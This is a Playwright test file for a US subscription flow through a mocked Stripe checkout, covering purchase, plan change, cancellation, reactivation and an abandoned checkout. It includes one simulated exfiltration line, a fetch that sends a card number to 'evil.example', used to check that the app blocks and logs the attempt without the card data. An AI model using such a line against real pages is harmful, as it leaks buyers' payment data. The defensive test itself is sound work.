/** Buying in the US: the buyer is sent to the page of Stripe, comes back, and has the plan as soon as Stripe says that it was paid. */
import { expect, test, type Page } from '@playwright/test'
import { messages as billing } from '../src/features/plans/ui/billing/messages.en.ts'
import { messages as offers } from '../src/features/plans/ui/offers/messages.en.ts'
import { playStripe, type PlayedStripe } from '../src/features/gateways/testing/played-stripe.ts'
import { byStripeMock, hasStripeMock } from '../src/features/gateways/testing/stripe-mock.ts'
import { axe } from './world/axe.ts'
import { found } from './world/houses.ts'
import { signIn, signUp } from './world/people.ts'
import { startProduct, type Product } from './world/product.ts'
import { atNight } from './world/nightly.ts'

test.skip(!hasStripeMock, byStripeMock)
test.use({ locale: 'en-US' })

let product: Product
let stripe: PlayedStripe
test.beforeAll(async () => {
  stripe = await playStripe()
  product = await startProduct({
    VARIANT: 'us',
    PAYMENTS: 'stripe',
    STRIPE_SECRET_KEY: 'sk_test_played',
    STRIPE_WEBHOOK_SECRET: 'whsec_played',
    STRIPE_API_BASE: stripe.url,
    PLAN_PRICES: 'basic=9.90/99.00,essential=19.90/199.00,advanced=39.90/399.00',
    SALES_EMAIL: 'sales@rubrica.test',
  })
})
test.afterAll(async () => {
  await product.close()
  await stripe.close()
})

const press = (page: Page, name: string) => page.getByRole('button', { name, exact: true }).click()
const choose = (page: Page, name: string) => press(page, offers.chooseNamed.replace('{name}', name))
const sessions = () => [...stripe.things.values()].filter(({ id }) => id.startsWith('cs_'))

async function tellProduct(type: string, thing: object): Promise<void> {
  const { body, signature } = stripe.message(type, thing)
  const answer = await fetch(`${product.baseUrl}/v1/payments/webhooks/stripe`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'stripe-signature': signature },
    body,
  })
  expect(answer.status).toBe(200)
}

test('a plan is bought on the page of Stripe, changed by its saved card, cancelled and taken back', async ({
  page,
  context,
}) => {
  const owner = await signUp(product, 'Ana Souza')
  await owner.call('POST', '/v1/me/language', { lang: 'en' })
  const house = await found(owner, 'Acme Inc.')
  await signIn(context, owner, product)
  // The pages of Stripe, as far as a buyer notices.
  await context.route(/^https:\/\/[\w.]+\.stripe\.(com|me)\//, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Stripe</title><h1>Pay with card</h1>' }),
  )
  await page.goto(`${product.baseUrl}/account/billing/plan?tab=plans&organization=${house.id}`)
  await expect(page.getByRole('heading', { name: offers.compare.title })).toBeVisible()
  await expect(page.getByText('US$19').or(page.getByText('$16.58')).first()).toBeVisible()
  await expect(page.getByText(/WhatsApp|CPF|Pix|boleto/i)).toHaveCount(0)
  expect((await axe(page).analyze()).violations).toEqual([])

  // What the page may not reach is told to the server, by its origin alone.
  await page.evaluate(`fetch('https://evil.example/x?card=4111').catch(() => null)`)
  await expect.poll(() => product.log()).toContain('"blocked":"https://evil.example"')
  expect(product.log()).not.toContain('4111')

  await choose(page, 'Essential')
  await page.waitForURL('https://checkout.stripe.com/**')
  const [session] = sessions()
  const back = (session!['asked'] as Record<string, string>)['success_url']!
  await page.goto(back)
  await expect(page.getByText(billing.waiting.title.replace('{name}', 'Essential'))).toBeVisible()
  await expect(page.getByText(billing.states.uninitialized)).toBeVisible()

  await press(page, billing.waiting.pay)
  await page.waitForURL('https://checkout.stripe.com/**')
  const subscription = stripe.pay(session!.id)
  await page.goto(back)
  await tellProduct('checkout.session.completed', stripe.things.get(session!.id)!)
  await expect(page.getByText(billing.states.recurring)).toBeVisible()
  await expect(page.getByText(billing.invoices.title).first()).toBeVisible()
  expect((await axe(page).analyze()).violations).toEqual([])

  await page.goto(`${product.baseUrl}/account/billing/plan?tab=plans`)
  await choose(page, 'Advanced')
  const change = page.getByRole('dialog').getByRole('button', { name: /^Change and pay/ })
  stripe.bank.says = 'no'
  await change.click()
  await page.getByRole('dialog').getByRole('link', { name: offers.change.toCard }).click()
  await expect(page.getByRole('dialog')).toHaveCount(0)
  await expect(page.getByRole('button', { name: billing.paid.portal })).toBeVisible()
  stripe.bank.says = 'yes'
  await page.goto(`${product.baseUrl}/account/billing/plan?tab=plans`)
  await choose(page, 'Advanced')
  await change.click()
  await expect(page.getByText(offers.change.changed.replace('{name}', 'Advanced'))).toBeVisible()
  await press(page, billing.paid.cancel)
  await page.getByRole('dialog').getByRole('button', { name: billing.cancel.action }).click()
  await expect(page.getByText(billing.states.active)).toBeVisible()
  await press(page, billing.paid.reactivate)
  await expect(page.getByText(billing.states.recurring)).toBeVisible()
  await press(page, billing.paid.portal)
  await page.waitForURL('https://billing.stripe.com/**')
  expect(stripe.things.get(subscription.id)).toMatchObject({ status: 'canceled' })
})

test('a page of Stripe that is left is given up, and another plan can be had', atNight, async ({ page, context }) => {
  const owner = await signUp(product, 'Bea Souza')
  await owner.call('POST', '/v1/me/language', { lang: 'en' })
  const house = await found(owner, 'Other Inc.')
  await signIn(context, owner, product)
  await context.route('https://checkout.stripe.com/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: 'x' }),
  )
  await page.goto(`${product.baseUrl}/account/billing/plan?tab=plans&organization=${house.id}`)
  await choose(page, 'Basic')
  await page.waitForURL('https://checkout.stripe.com/**')
  await page.goto(`${product.baseUrl}/account/billing/plan?tab=plans`)
  await choose(page, 'Advanced')
  await expect(page.getByRole('dialog', { name: offers.busy.title })).toBeVisible()
  await page.goto(`${product.baseUrl}/account/billing/plan`)
  await press(page, billing.waiting.drop)
  await press(page, billing.waiting.dropAction)
  await expect(page.getByText(billing.waiting.dropped)).toBeVisible()
  await page.goto(`${product.baseUrl}/account/billing/plan?tab=plans`)
  await choose(page, 'Advanced')
  await page.waitForURL('https://checkout.stripe.com/**')
})
